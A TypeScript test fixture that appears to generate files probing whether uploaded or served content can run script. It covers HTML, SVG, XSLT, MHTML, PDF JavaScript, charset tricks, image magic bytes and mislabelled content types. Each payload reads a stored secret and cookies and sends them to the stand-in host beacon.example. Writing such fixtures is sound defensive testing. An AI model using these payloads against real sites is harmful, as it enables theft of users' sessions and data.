/** Where a script that runs would tell so. Nobody is there: requests to it are caught. */
export const beacon = "http://beacon.example/";

/** A file that would like to be a page, or to run something. */
export interface ActiveFile {
  /** Its name says what is tried. */
  readonly name: string;
  readonly contentType: string;
  readonly bytes: Buffer;
}

/** Tells what it can read of whoever opens it. Without characters that markup would have to escape. */
const scriptOf = (name: string): string =>
  `var s;try{s=localStorage.getItem("secret")+document.cookie}catch(e){s="nothing"}document.title="ran";new Image().src="${beacon}${name}?"+encodeURIComponent(s)`;

/** A page that runs a script in three ways. */
export const page = (name: string): string =>
  `<!doctype html><html><head><script>${scriptOf(name)}</script></head><body onload='${scriptOf(name)}'><img src=x onerror='${scriptOf(name)}'></body></html>`;
const xhtml = (name: string): string =>
  `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title><script>${scriptOf(name)}</script></head><body onload='${scriptOf(name)}'/></html>`;
const svg = (name: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" onload='${scriptOf(name)}' width="9" height="9"><script>${scriptOf(name)}</script><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src='javascript:${scriptOf(name)}'/></foreignObject></svg>`;
const xslt = (name: string): string =>
  `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#sheet"?><!DOCTYPE d [<!ATTLIST xsl:stylesheet id ID #REQUIRED>]><d><xsl:stylesheet id="sheet" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><head><script>${scriptOf(name)}</script></head><body/></html></xsl:template></xsl:stylesheet></d>`;
const mhtml = (name: string): string =>
  `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"; type="text/html"\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: http://127.0.0.1/\r\n\r\n${page(name)}\r\n--b--\r\n`;
const mixed = (name: string): string => `--b\r\nContent-Type: text/html\r\n\r\n${page(name)}\r\n--b--\r\n`;
const pdf = (name: string): string =>
  `%PDF-1.4\n1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(this.submitForm\\("${beacon}${name}"\\);this.getURL\\("javascript:${scriptOf(name)}"\\);)>>>> endobj\n2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj\n3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>> endobj\ntrailer <</Root 1 0 R>>\n${page(name)}`;
const utf16 = (text: string): Buffer => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")]);
const utf7 = (text: string): string => text.replaceAll("<", "+ADw-").replaceAll(">", "+AD4-");
const swf = Buffer.concat([Buffer.from("FWS\x09\x10\0\0\0", "latin1"), Buffer.alloc(8)]);

type Make = (name: string) => string | Buffer;
const withMagic =
  (magic: string): Make =>
  (name) =>
    Buffer.concat([Buffer.from(magic, "latin1"), Buffer.from(page(name))]);

const tries: readonly (readonly [name: string, contentType: string, make: Make])[] = [
  ["plain.html", "text/html", page],
  ["charset.html", "text/html;charset=utf-8", page],
  ["upper.html", "TEXT/HTML", page],
  ["spaces.html", "text/html   ; charset = utf-8  ", page],
  ["bom.html", "text/html", (name) => `\uFEFF${page(name)}`],
  ["utf7.html", "text/html; charset=utf-7", (name) => utf7(page(name))],
  ["utf16.html", "text/html; charset=utf-16", (name) => utf16(page(name))],
  ["utf7-plain.txt", "text/plain; charset=utf-7", (name) => utf7(page(name))],
  ["utf16-plain.txt", "text/plain; charset=utf-16", (name) => utf16(page(name))],
  ["plain.txt", "text/plain", page],
  ["html.png", "image/png", page],
  ["html-behind-png.png", "image/png", withMagic("\x89PNG\r\n\x1a\n")],
  ["html-behind-gif.gif", "image/gif", withMagic("GIF89a/*")],
  ["html-behind-jpeg.jpg", "image/jpeg", withMagic("\xff\xd8\xff\xe0")],
  ["html.bmp", "image/bmp", page],
  ["html.ico", "image/x-icon", page],
  ["html-as-any-image", "image/*", page],
  ["two-types.png", "image/png, text/html", page],
  ["hidden-type.png", "image/png; text/html", page],
  ["svg.svg", "image/svg+xml", svg],
  ["svg-upper.svg", "IMAGE/SVG+XML", svg],
  ["svg-utf16.svg", "image/svg+xml;charset=utf-16", (name) => utf16(svg(name))],
  ["xhtml-as-svg.svg", "image/svg+xml", xhtml],
  ["svg-as-xml.xml", "text/xml", svg],
  ["page.xhtml", "application/xhtml+xml", xhtml],
  ["page.xht", "application/xhtml+xml; charset=utf-8", xhtml],
  ["upper.xhtml", "Application/XHTML+XML", xhtml],
  ["page.xml", "application/xml", xhtml],
  ["text.xml", "text/xml; charset=utf-8", xhtml],
  ["xslt.xml", "application/xml", xslt],
  ["xslt-text.xml", "text/xml", xslt],
  ["sheet.xsl", "text/xsl", xhtml],
  ["sheet.xslt", "application/xslt+xml", xslt],
  ["feed.rss", "application/rss+xml", xhtml],
  ["formula.mml", "application/mathml+xml", xhtml],
  ["mobile.xhtml", "application/vnd.wap.xhtml+xml", xhtml],
  ["window.xul", "application/vnd.mozilla.xul+xml", xhtml],
  ["archive.mht", "multipart/related; boundary=b", mhtml],
  ["archive.mhtml", "message/rfc822", mhtml],
  ["archive-apple.mht", "application/x-mimearchive", mhtml],
  ["push", "multipart/x-mixed-replace; boundary=b", mixed],
  ["form", "multipart/form-data; boundary=b", mixed],
  ["ranges", "multipart/byteranges; boundary=b", mixed],
  ["script.pdf", "application/pdf", pdf],
  ["html.pdf", "application/pdf", page],
  ["flash.swf", "application/x-shockwave-flash", () => swf],
  ["html.json", "application/json", page],
  ["html.js", "text/javascript", page],
  ["html.css", "text/css", page],
  ["html.hta", "application/hta", page],
  ["html.mp4", "video/mp4", page],
  ["html.mp3", "audio/mpeg", page],
  ["html.woff2", "font/woff2", page],
  ["html.manifest", "text/cache-manifest", page],
  ["html.vtt", "text/vtt", page],
  ["events", "text/event-stream", page],
  ["exchange.sxg", "application/signed-exchange;v=b3", page],
  ["untyped.html", "", page],
  ["untyped.svg", "", svg],
  ["bytes.html", "application/octet-stream", page],
  ["unknown.html", "application/unknown", page],
  ["any.html", "*/*", page],
  ["no-slash.html", "html", page],
  ["two-slashes.html", "text/html/xml", page],
  ["quoted.html", 'text/plain; a="text/html"', page],
];

export const activeFiles: readonly ActiveFile[] = tries.map(([name, contentType, make]) => ({
  name,
  contentType,
  bytes: Buffer.from(make(name)),
}));
